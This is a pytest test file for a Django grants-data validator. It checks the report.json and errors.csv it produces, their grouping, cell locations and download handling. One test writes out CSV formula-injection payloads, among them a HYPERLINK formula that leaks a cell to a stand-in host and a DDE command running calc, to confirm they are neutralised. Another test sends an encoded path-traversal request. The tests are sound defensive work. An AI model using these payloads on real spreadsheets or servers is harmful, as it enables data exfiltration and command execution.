"""The report: report.json and errors.csv, their content, and downloading them."""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
from pathlib import Path

import pytest

from tasks import schema as schema_module
from tasks.report import errors_csv
from tests.conftest import fixture, post_file, post_json
from tests.test_spreadsheet_tasks import send, use_profile
from webapp.models import Submission, TaskResult, TaskRun

pytestmark = pytest.mark.django_db(transaction=True)

EXAMPLES = Path(__file__).parent.parent / "examples" / "demo"
HEADER = [
    "validator",
    "path",
    "message",
    "value",
    "schema_path",
    "sheet",
    "row",
    "column",
    "header",
    "detail",
]


# A recipient is a person with a name and an address, or an organisation with an 8-digit id.
RECIPIENT = {
    "oneOf": [
        {"type": "object", "required": ["name", "address"]},
        {"type": "object", "properties": {"id": {"pattern": "^[0-9]{8}$"}}, "required": ["id"]},
    ]
}


def download(client, submission: Submission, filename: str, task: str = "report"):
    return client.get(f"/s/{submission.id}/files/{task}/{filename}")


def report_of(client, submission: Submission) -> dict:
    response = download(client, submission, "report.json")
    assert response.status_code == 200
    return json.loads(b"".join(response.streaming_content).decode("utf-8"))


def csv_rows(client, submission: Submission) -> list[dict[str, str]]:
    response = download(client, submission, "errors.csv")
    assert response.status_code == 200
    raw = b"".join(response.streaming_content)
    assert raw.startswith(codecs.BOM_UTF8)  # for Excel, which otherwise garbles “ and €
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def grant(identifier: str, **changes) -> dict:
    return {
        "id": identifier,
        "title": "A grant",
        "amount": {"value": 100, "currency": "GBP"},
        "awardDate": "2026-01-01",
        **changes,
    }


# report.json ------------------------------------------------------------------------------


def test_the_report_of_the_invalid_demo_file(client):
    submission = post_file(client, EXAMPLES / "grants-invalid.json")
    assert submission.store.output("report").data == {
        "valid": False,
        "error_count": 13,
        "stored": 13,
    }
    report = report_of(client, submission)
    assert report["valid"] is False
    assert report["format"] == "json"
    assert report["profile"] == "demo"
    assert report["schema"] == {
        "source": "profiles/demo/grants.schema.json",
        "draft": "2020-12",
        "title": "Demo grants data",
    }
    assert report["checked_against_schema"] is True
    assert report["error_count"] == 13
    assert report["errors_truncated"] is False
    assert len(report["errors"]) == 13
    assert report["errors"][0] == {
        "validator": "required",
        "path": "/grants/0/amount",
        "schema_path": "/$defs/grant/properties/amount/required",
        "message": "“currency” is missing",
        "detail": "",
        "value": None,
    }
    first_group = report["error_groups"][0]
    assert (first_group["path_pattern"], first_group["message"], first_group["count"]) == (
        "/grants/*/amount",
        "“currency” is missing",
        2,
    )
    assert [e["path"] for e in first_group["examples"]] == ["/grants/0/amount", "/grants/5/amount"]
    assert sum(group["count"] for group in report["error_groups"]) == 13
    assert [(f["path"], f["count"]) for f in report["additional_fields"]] == [
        ("/grants/*/notes", 2),
        ("/grants/*/amount/vat", 1),
    ]
    assert report["additional_field_count"] == 2
    assert report["stats"]["items"] == 8
    assert report["sample"] is None
    assert report["conversion_warnings"] == []


def test_the_report_gives_fields_named_twice_and_checks_their_last_values(client):
    submission = post_file(client, fixture("field-named-twice.json"))
    report = report_of(client, submission)
    assert report["stats"]["repeated_fields"] == {
        "count": 2,
        "examples": [
            {"path": "/grants/0", "field": "amount", "times": 2},
            {"path": "/grants/1/amount", "field": "currency", "times": 2},
        ],
    }
    # The last "amount" of the first grant is the one read: its value is text.
    assert [(error["path"], error["validator"]) for error in report["errors"]] == [
        ("/grants/0/amount/value", "type")
    ]


def test_errors_of_kinds_past_those_grouped_are_counted_and_said_to_be(client, monkeypatch):
    monkeypatch.setattr(schema_module, "MAX_KINDS", 2)
    submission = post_file(client, EXAMPLES / "grants-invalid.json")
    report = report_of(client, submission)
    grouped = sum(group["count"] for group in report["error_groups"])
    assert (report["error_count"], report["error_group_count"]) == (13, 2)
    assert report["ungrouped_error_count"] == 13 - grouped > 0
    page = client.get(f"/s/{submission.id}/").content.decode()
    assert (
        f"in 2 kinds, and {13 - grouped} of kinds met after those, counted but not grouped "
        "(only the first 2 kinds are)." in page
    )


def test_the_report_of_a_valid_file_says_valid_with_no_errors(client):
    submission = post_file(client, EXAMPLES / "grants-valid.json")
    report = report_of(client, submission)
    assert (report["valid"], report["error_count"], report["errors"]) == (True, 0, [])
    assert report["error_groups"] == []
    assert report["checked_against_schema"] is True
    assert csv_rows(client, submission) == []


def test_without_a_schema_the_report_says_nothing_was_checked_against_one(client):
    submission = post_json(client, {"anything": [1, 2]}, profile="generic")
    report = report_of(client, submission)
    assert report["profile"] == "generic"
    assert report["checked_against_schema"] is False
    assert report["schema"] == {"source": ""}
    assert (report["error_count"], report["errors"], report["additional_fields"]) == (0, [], [])
    assert report["stats"]["lists"] == [{"path": "/anything", "items": 2}]
    # No list of errors is offered where none could be found.
    page = client.get(submission.get_absolute_url()).content.decode()
    assert "errors.csv" not in page and "report.json" in page
    assert client.get(f"/s/{submission.id}/files/report/errors.csv").status_code == 404


def test_a_report_made_again_without_a_schema_keeps_no_earlier_errors_csv(client):
    submission = post_json(client, {"anything": [1, 2]}, profile="generic")
    stale = submission.files_dir / "report" / "errors.csv"
    stale.write_text("validator,path\nrequired,/x\n")  # as an earlier version wrote one
    TaskResult.objects.filter(submission=submission, task="report").delete()  # to run again
    page = client.get(submission.get_absolute_url()).content.decode()
    assert TaskRun.objects.filter(submission=submission, task="report").count() == 2
    assert "errors.csv" not in page and not stale.exists()


def test_in_sample_mode_the_report_says_what_was_sampled(client, settings):
    settings.ASSAY_SAMPLE_ITEMS = 2
    data = {"grants": [grant("G-001"), grant("G-002"), grant("wrong")]}
    report = report_of(client, post_json(client, data, sample="on"))
    assert report["sample"] == {
        "sample_size": 2,
        "lists": [{"path": "/grants", "items": 3, "checked": 2}],
        "sampled": True,
    }
    assert (report["valid"], report["error_count"]) == (True, 0)


def test_the_report_is_utf8_even_where_the_server_locale_is_not(client, monkeypatch):
    # Text files written without an encoding would use the locale's: ASCII, here.
    monkeypatch.setattr(io, "text_encoding", lambda encoding, stacklevel=2: encoding or "ascii")
    submission = post_file(client, EXAMPLES / "grants-invalid.json")
    submission.refresh_from_db()
    assert submission.state == Submission.State.DONE
    raw = b"".join(download(client, submission, "report.json").streaming_content)
    assert "“currency” is missing".encode() in raw
    assert json.loads(raw.decode("utf-8"))["error_count"] == 13


def test_the_report_and_errors_csv_say_why_no_alternative_matches(client, settings, tmp_path):
    use_profile(settings, tmp_path, {"properties": {"recipient": RECIPIENT}})
    grants = [{"recipient": {"id": "123"}}, {"recipient": {"name": "Ann"}}]
    submission = post_json(client, {"grants": grants})
    report = report_of(client, submission)
    closest = [
        "Closest is alternative 2: at /grants/0/recipient/id, does not match the pattern "
        "^[0-9]{8}$",
        "Closest is alternative 1: “address” is missing",
    ]
    assert [(e["path"], e["message"], e["detail"]) for e in report["errors"]] == [
        ("/grants/0/recipient", "matches none of the allowed alternatives", closest[0]),
        ("/grants/1/recipient", "matches none of the allowed alternatives", closest[1]),
    ]
    [group] = report["error_groups"]  # the detail does not split the group
    assert group["count"] == 2
    assert [example["detail"] for example in group["examples"]] == closest
    rows = csv_rows(client, submission)
    assert [(row["path"], row["message"], row["detail"]) for row in rows] == [
        ("/grants/0/recipient", "matches none of the allowed alternatives", closest[0]),
        ("/grants/1/recipient", "matches none of the allowed alternatives", closest[1]),
    ]


def test_a_csv_s_report_and_errors_csv_place_why_no_alternative_matches_in_cells(
    client, settings, tmp_path
):
    use_profile(settings, tmp_path, {"properties": {"recipient": RECIPIENT}})
    rows = [f"G{n},,12345678" for n in range(40)]
    rows[30] = "G30,,123"  # past the first items, which are checked apart from the rest
    rows[31] = "G31,Ann,"
    content = "id,recipient/name,recipient/id\n" + "\n".join(rows) + "\n"
    submission = send(client, "grants.csv", content.encode())
    report = report_of(client, submission)
    closest = [
        "Closest is alternative 2: at sheet grants, row 32, column C, heading “recipient/id”, "
        "does not match the pattern ^[0-9]{8}$",
        "Closest is alternative 1: at sheet grants, row 33, heading “recipient/address”, "
        "“address” is missing",
    ]
    assert [(e["source"]["row"], e["detail"]) for e in report["errors"]] == [
        (32, closest[0]),
        (33, closest[1]),
    ]
    [group] = report["error_groups"]
    assert [example["detail"] for example in group["examples"]] == closest
    assert [row["detail"] for row in csv_rows(client, submission)] == closest


# errors.csv -------------------------------------------------------------------------------


def test_errors_csv_has_one_row_per_error(client):
    submission = post_file(client, EXAMPLES / "grants-invalid.json")
    rows = csv_rows(client, submission)
    assert len(rows) == 13
    by_place = {(row["path"], row["validator"]): row for row in rows}
    assert by_place[("/grants/2/amount/currency", "enum")] == {
        "validator": "enum",
        "path": "/grants/2/amount/currency",
        "message": "is not one of the allowed values: “GBP”, “EUR”, “USD”",
        "value": "XYZ",
        "schema_path": "/$defs/grant/properties/amount/properties/currency/enum",
        "sheet": "",
        "row": "",
        "column": "",
        "header": "",
        "detail": "",
    }
    assert by_place[("/grants/0/amount", "required")]["value"] == ""  # nothing to show
    assert by_place[("/grants/1/amount/value", "type")]["value"] == "800"
    # A negative number is a number, not a formula: it stays as it is.
    assert by_place[("/grants/7/amount/value", "minimum")]["value"] == "-250"


def test_errors_csv_of_a_spreadsheet_says_where_each_error_is(client):
    submission = post_file(client, EXAMPLES / "grants-invalid.xlsx")
    assert report_of(client, submission)["format"] == "xlsx"
    rows = csv_rows(client, submission)
    enum = next(row for row in rows if row["validator"] == "enum")
    assert (enum["sheet"], enum["row"], enum["column"], enum["header"]) == (
        "grants",
        "4",
        "E",
        "amount/currency",
    )
    code = next(row for row in rows if row["path"] == "/grants/2/classifications/0")
    assert (code["sheet"], code["header"]) == ("classifications", "classifications/0/code")
    assert all(row["sheet"] and row["row"] and row["column"] for row in rows)


def test_values_that_would_start_a_formula_are_made_text_in_the_csv(client):
    dangerous = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
    ]
    data = {"grants": [grant(value) for value in dangerous] + [grant("G-001")]}
    submission = post_json(client, data)
    rows = csv_rows(client, submission)
    values = {row["path"]: row["value"] for row in rows if row["validator"] == "pattern"}
    assert values == {f"/grants/{i}/id": f"'{value}" for i, value in enumerate(dangerous)}
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row.values()
    )
    # The report document keeps the data as it is.
    report = report_of(client, submission)
    assert [error["value"] for error in report["errors"]] == dangerous


def test_errors_csv_neutralises_every_column_and_writes_other_values_as_json():
    errors = [
        {
            "validator": "type",
            "path": "/a",
            "message": "-message",
            "value": {"k": ["=x"]},
            "schema_path": "/properties/a/type",
            "source": {"sheet": "=Sheet", "row": 5, "column": "@B", "header": "+a"},
            "detail": "=detail",
        },
        {"validator": "type", "path": "/b", "message": "m", "value": 1.5, "schema_path": "/s"},
        {"validator": "const", "path": "/c", "message": "m", "value": True, "schema_path": "="},
    ]
    rows = list(csv.reader(io.StringIO(errors_csv(errors))))
    assert rows[0] == HEADER
    assert rows[1] == [
        "type",
        "/a",
        "'-message",
        '{"k": ["=x"]}',
        "/properties/a/type",
        "'=Sheet",
        "5",
        "'@B",
        "'+a",
        "'=detail",
    ]
    assert rows[2] == ["type", "/b", "m", "1.5", "/s", "", "", "", "", ""]
    assert rows[3] == ["const", "/c", "m", "true", "'=", "", "", "", "", ""]


def test_errors_csv_keeps_commas_quotes_and_line_breaks_inside_cells():
    value = 'a, "b"\nc'
    errors = [{"validator": "enum", "path": "/x", "message": "m", "value": value}]
    rows = list(csv.reader(io.StringIO(errors_csv(errors))))
    assert rows[1][3] == value
    assert len(rows) == 2


# Downloads --------------------------------------------------------------------------------


def test_the_results_page_links_both_downloads_and_they_are_attachments(client):
    submission = post_file(client, EXAMPLES / "grants-invalid.json")
    html = client.get(submission.get_absolute_url()).content.decode()
    report_section = re.search(r'<section id="report".*?</section>', html, re.S).group(0)
    base = f"/s/{submission.id}/files/report"
    assert f'<a href="{base}/report.json" download>The report (JSON)</a>' in report_section
    assert f'<a href="{base}/errors.csv" download>The errors (CSV)</a>' in report_section
    json_response = download(client, submission, "report.json")
    assert json_response["Content-Type"] == "application/json"
    assert json_response["Content-Disposition"] == 'attachment; filename="report.json"'
    csv_response = download(client, submission, "errors.csv")
    assert csv_response["Content-Type"].startswith("text/csv")
    assert csv_response["Content-Disposition"] == 'attachment; filename="errors.csv"'


def test_only_the_files_a_task_offers_can_be_downloaded(client):
    submission = post_file(client, EXAMPLES / "grants-invalid.json")
    assert download(client, submission, "other.json").status_code == 404
    assert download(client, submission, "errors.json", task="report").status_code == 404
    assert download(client, submission, "report.json", task="no_such_task").status_code == 404
    assert download(client, submission, "report.json", task="validate").status_code == 404
    assert client.get(
        f"/s/{submission.id}/files/report/..%2Fvalidate%2Ferrors.json"
    ).status_code == (404)
